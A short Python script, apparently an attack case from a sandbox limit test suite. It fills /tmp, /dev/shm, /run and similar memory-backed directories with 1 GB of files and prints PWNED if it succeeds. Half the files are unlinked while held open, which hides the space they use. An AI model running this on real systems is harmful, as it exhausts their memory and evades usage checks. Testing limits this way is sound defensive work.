"""Keep 1 GB in files of the memory file systems: the work directory, /tmp, /dev/shm, /run.

Shows: PWNED on stdout.
"""

import os
import tempfile
from contextlib import suppress

from kit import pwned

total = 0
for place in {".", "/tmp", "/dev/shm", "/run", "/run/lock", "/var/tmp", "/dev/mqueue", tempfile.gettempdir()}:
    with suppress(OSError):
        for number in range(128):
            path = f"{place}/lydite-attack-{number}"
            with open(path, "wb", buffering=0) as file:
                os.unlink(path) if number % 2 else None
                for _ in range(8):
                    total += file.write(bytes(1 << 20))
print(total >> 20, "MB")
if total >= 1 << 30:
    pwned()
